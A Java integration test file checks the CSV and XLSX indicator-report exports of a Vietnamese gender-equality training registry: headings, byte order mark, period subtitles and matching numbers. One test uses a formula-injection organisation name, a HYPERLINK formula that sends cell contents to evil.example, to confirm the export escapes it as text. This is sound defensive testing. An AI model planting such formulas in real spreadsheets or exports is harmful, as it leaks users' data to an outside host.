package vn.bdg.registry.report;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import vn.bdg.registry.support.Api;
import vn.bdg.registry.support.Fixtures;
import vn.bdg.registry.support.World;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/** The CSV and XLSX files open with standard readers and hold the numbers of the JSON answer. */
class ReportFilesIT {
    private static final String QUERY = "period=2026&by=sex,level";
    private static World world;

    @BeforeAll
    static void aCourse() {
        world = World.create();
        LocalDate day = LocalDate.of(2026, 4, 21);
        UUID course = Fixtures.course(world, world.districtA, "completed", day, day);
        UUID session = Fixtures.session(world, course, day, LocalTime.of(8, 0), LocalTime.of(11, 0));
        String[][] people = {{"Hoàng Thị Ngọc", "female", world.communeA1}, {"Đàm Văn Quý", "male", world.districtA},
                {"Nguyễn Thị Hoà", "female", world.communeB2}};
        for (String[] p : people) {
            UUID id = Fixtures.participant(world, p[0], p[1], p[2], 1986, "01", "women_council_delegates");
            Fixtures.enroll(world, course, id);
            Reports.present(world, session, id, day);
        }
    }

    /** The JSON rows' values, in order (null for a share of nothing). */
    private static List<BigDecimal> jsonValues() {
        List<BigDecimal> values = new ArrayList<>();
        Reports.report(world.reporter, QUERY).get("rows")
                .forEach(r -> values.add(r.get("value").isNull() ? null : r.get("value").decimalValue()));
        return values;
    }

    @Test
    void theCsvHasVietnameseHeadingsAByteOrderMarkAndTheSameNumbers() throws Exception {
        Api.Res res = world.reporter.withHeader("Accept", "text/csv").get("/api/v1/reports/indicators?" + QUERY);
        assertThat(res.status()).isEqualTo(200);
        assertThat(res.contentType()).startsWith("text/csv");
        assertThat(res.header("Content-Disposition")).contains("bao-cao-chi-tieu-2026.csv");
        assertThat(res.body()).startsWith("\uFEFF");
        try (CSVParser csv = CSVParser.parse(new StringReader(res.body().substring(1)),
                CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get())) {
            assertThat(csv.getHeaderNames()).containsExactly("Mã chỉ tiêu", "Chỉ tiêu", "Kỳ báo cáo", "Giới tính", "Cấp",
                    "Đơn vị tính", "Giá trị", "Tử số", "Mẫu số", "Kế hoạch", "Định nghĩa");
            List<CSVRecord> records = csv.getRecords();
            List<BigDecimal> values = new ArrayList<>();
            records.forEach(r -> values.add(r.get("Giá trị").isEmpty() ? null : new BigDecimal(r.get("Giá trị"))));
            assertThat(values).usingElementComparator((a, b) -> a == null || b == null ? (a == b ? 0 : 1) : a.compareTo(b))
                    .containsExactlyElementsOf(jsonValues());
            CSVRecord women = records.stream().filter(r -> r.get("Mã chỉ tiêu").equals("attendances")
                    && r.get("Giới tính").equals("Nữ") && r.get("Cấp").equals("Cấp xã")).findFirst().orElseThrow();
            assertThat(women.get("Giá trị")).isEqualTo("2");
            assertThat(women.get("Chỉ tiêu")).isEqualTo("Số lượt người tham dự");
            assertThat(women.get("Đơn vị tính")).isEqualTo("Lượt người");
        }
        assertThat(world.reporter.get("/api/v1/reports/indicators?format=csv&" + QUERY).body())
                .isEqualTo(res.body());
    }

    @Test
    void byUnitTheReportUnitsOwnRowSaysItIsNotTheTotal() throws Exception {
        Api.Res res = world.reporter.get("/api/v1/reports/indicators?format=csv&period=2026&by=unit"
                + "&indicators=attendances");
        try (CSVParser csv = CSVParser.parse(new StringReader(res.body().substring(1)),
                CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get())) {
            Map<String, String> byUnit = new TreeMap<>();
            csv.getRecords().forEach(r -> byUnit.put(r.get("Đơn vị hành chính"), r.get("Giá trị")));
            String provinceName = world.reporter.get("/api/v1/admin-units/" + world.province).json().get("name").asText();
            // of the 3 present, one is registered at district A itself, two in communes of A and B
            assertThat(byUnit).containsEntry(provinceName + " (riêng cấp này, không gồm đơn vị trực thuộc)", "0")
                    .doesNotContainKey(provinceName);
        }
    }

    @Test
    void aNameThatASpreadsheetWouldRunAsAFormulaIsTextInTheCsv() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Hội LHPN\")";
        Api.Res organisation = world.organizer.post("/api/v1/organizations", Map.of("name", formula));
        assertThat(organisation.status()).as(organisation.body()).isEqualTo(201);
        LocalDate day = LocalDate.of(2025, 5, 12); // a year the other tests of this class do not count
        UUID course = Fixtures.course(world, world.districtA, "completed", day, day, "training", new String[0],
                new String[0], "district", UUID.fromString(organisation.json().get("id").asText()));
        UUID session = Fixtures.session(world, course, day, LocalTime.of(8, 0), LocalTime.of(11, 0));
        UUID trainee = Fixtures.participant(world, "Lò Thị Xuân", "female", world.communeA1);
        Fixtures.enroll(world, course, trainee);
        Reports.present(world, session, trainee, day);

        Api.Res res = world.reporter.get("/api/v1/reports/indicators?format=csv&from=2025-05-01&to=2025-05-31"
                + "&by=organizer&indicators=courses_held");
        assertThat(res.status()).as(res.body()).isEqualTo(200);
        try (CSVParser csv = CSVParser.parse(new StringReader(res.body().substring(1)),
                CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get())) {
            assertThat(csv.getRecords()).filteredOn(r -> r.get("Giá trị").equals("1"))
                    .extracting(r -> r.get("Đơn vị tổ chức")).containsExactly("'" + formula);
        }
    }

    @Test
    void theXlsxSubtitleNamesThePeriodAsAVietnameseReportDoes() throws Exception {
        World province = World.create();
        assertThat(province.admin.put("/api/v1/reports/settings", Map.of("halfYearStart", "12-15")).status())
                .isEqualTo(200);
        Map<String, String> subtitles = Map.of(
                "period=2026-H1", "kỳ báo cáo 6 tháng đầu năm 2026: từ ngày 15/12/2025 đến ngày 14/06/2026)",
                "period=2026-H2", "kỳ báo cáo 6 tháng cuối năm 2026: từ ngày 15/06/2026 đến ngày 14/12/2026)",
                "period=2026", "kỳ báo cáo năm 2026: từ ngày 15/12/2025 đến ngày 14/12/2026)",
                "period=2026-Q3", "kỳ báo cáo quý III năm 2026: từ ngày 01/07/2026 đến ngày 30/09/2026)",
                "from=2026-03-01&to=2026-03-30", "kỳ báo cáo từ ngày 01/03/2026 đến ngày 30/03/2026)");
        for (Map.Entry<String, String> e : subtitles.entrySet()) {
            byte[] xlsx = province.reporter.bytes("/api/v1/reports/indicators?format=xlsx&indicators=courses_held&"
                    + e.getKey());
            try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
                Row subtitle = workbook.getFirstSheet().read().stream().filter(r -> r.getRowNum() == 2).findFirst()
                        .orElseThrow();
                assertThat(subtitle.getCellText(0)).as(e.getKey()).endsWith(e.getValue());
            }
        }
    }

    @Test
    void theXlsxIsAnAnnexWithATitleVietnameseHeadingsAndTheSameNumbers() throws Exception {
        byte[] xlsx = world.reporter.bytes("/api/v1/reports/indicators?format=xlsx&" + QUERY);
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = workbook.getFirstSheet();
            assertThat(sheet.getName()).isEqualTo("Phụ lục");
            // the reader leaves out empty rows: take them by number (1-based): title, subtitle, headings on 4
            Map<Integer, Row> rows = new TreeMap<>();
            sheet.read().forEach(r -> rows.put(r.getRowNum(), r));
            assertThat(rows.get(1).getCellText(0)).isEqualTo("PHỤ LỤC: SỐ LIỆU CHỈ TIÊU TẬP HUẤN VỀ BÌNH ĐẲNG GIỚI");
            assertThat(rows.get(2).getCellText(0)).contains("Tỉnh Thử Nghiệm", "từ ngày 01/01/2026 đến ngày 31/12/2026");
            assertThat(rows).doesNotContainKey(3);
            Row headings = rows.get(4);
            List<String> names = new ArrayList<>();
            for (int c = 0; c < headings.getCellCount(); c++) {
                names.add(headings.getCellText(c));
            }
            assertThat(names).containsExactly("STT", "Mã chỉ tiêu", "Chỉ tiêu", "Kỳ báo cáo", "Giới tính", "Cấp",
                    "Đơn vị tính", "Giá trị", "Tử số", "Mẫu số", "Kế hoạch", "Định nghĩa");
            List<BigDecimal> values = new ArrayList<>();
            rows.forEach((number, row) -> {
                if (number > 4) {
                    values.add(row.getCellAsNumber(7).orElse(null));
                }
            });
            assertThat(values).usingElementComparator((a, b) -> a == null || b == null ? (a == b ? 0 : 1) : a.compareTo(b))
                    .containsExactlyElementsOf(jsonValues());
            assertThat(rows.get(5).getCellAsNumber(0)).contains(BigDecimal.ONE);
        }
    }
}
